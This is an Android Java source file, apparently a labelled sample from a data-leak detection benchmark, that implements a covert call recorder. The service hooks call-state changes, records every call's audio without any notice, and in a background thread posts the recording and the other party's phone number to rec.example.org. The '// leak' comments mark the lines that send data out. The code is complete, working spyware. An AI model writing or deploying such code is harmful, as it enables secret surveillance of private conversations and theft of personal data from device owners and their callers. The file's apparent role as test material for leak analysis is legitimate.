package stealers;

import android.app.Service;
import android.content.*;
import android.media.MediaRecorder;
import android.os.*;
import android.telephony.*;

import java.io.*;
import java.net.*;
import java.text.SimpleDateFormat;
import java.util.*;

/** A call is recorded to a file whose name tells the number; the file goes out when the call ends. */
public class CallTape extends Service {
    private MediaRecorder recorder;
    private String file;
    private static String number = "unknown";

    public static class Outgoing extends BroadcastReceiver {
        @Override
        public void onReceive(Context c, Intent i) {
            if (Intent.ACTION_NEW_OUTGOING_CALL.equals(i.getAction())) number = i.getStringExtra(Intent.EXTRA_PHONE_NUMBER);
            c.startService(new Intent(c, CallTape.class));
        }
    }

    @Override
    public IBinder onBind(Intent i) {
        return null;
    }

    @Override
    public void onCreate() {
        TelephonyManager t = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
        t.listen(
                new PhoneStateListener() {
                    @Override
                    public void onCallStateChanged(int state, String incoming) {
                        switch (state) {
                            case TelephonyManager.CALL_STATE_RINGING:
                                number = incoming;
                                break;
                            case TelephonyManager.CALL_STATE_OFFHOOK:
                                begin();
                                break;
                            case TelephonyManager.CALL_STATE_IDLE:
                                end();
                                break;
                        }
                    }
                },
                PhoneStateListener.LISTEN_CALL_STATE);
    }

    void begin() {
        file = getFilesDir().getAbsolutePath() + "/" + new SimpleDateFormat("yyyyMMddHHmmss", Locale.US).format(new Date()) + ".amr";
        recorder = new MediaRecorder();
        recorder.setAudioSource(MediaRecorder.AudioSource.VOICE_CALL);
        recorder.setOutputFormat(MediaRecorder.OutputFormat.RAW_AMR);
        recorder.setAudioEncoder(MediaRecorder.AudioEncoder.AMR_NB);
        recorder.setOutputFile(file);
        try {
            recorder.prepare();
            recorder.start();
        } catch (IOException e) {
            recorder = null;
        }
    }

    void end() {
        if (recorder == null) return;
        recorder.stop();
        recorder.release();
        recorder = null;
        new Up(file, number).start();
    }

    static class Up extends Thread {
        final String path, who;

        Up(String path, String who) {
            this.path = path;
            this.who = who;
        }

        @Override
        public void run() {
            String line = "\r\n", dash = "--", mark = "*****";
            try {
                FileInputStream in = new FileInputStream(new File(path));
                HttpURLConnection c = (HttpURLConnection) new URL("http://rec.example.org/put").openConnection();
                c.setDoOutput(true);
                c.setRequestProperty("Content-Type", "multipart/form-data;boundary=" + mark); // no leak
                DataOutputStream out = new DataOutputStream(c.getOutputStream());
                out.writeBytes(dash + mark + line); // no leak
                out.writeBytes("Content-Disposition: form-data; name=\"who\"" + line + line + who + line); // leak
                int size = Math.min(in.available(), 1024 * 1024);
                byte[] buffer = new byte[size];
                int read = in.read(buffer, 0, size);
                while (read > 0) {
                    out.write(buffer, 0, size); // leak
                    size = Math.min(in.available(), 1024 * 1024);
                    read = in.read(buffer, 0, size);
                }
                out.writeBytes(line + dash + mark + dash + line); // no leak
                out.flush();
            } catch (Exception e) {
                e.printStackTrace();
            }
        }
    }
}
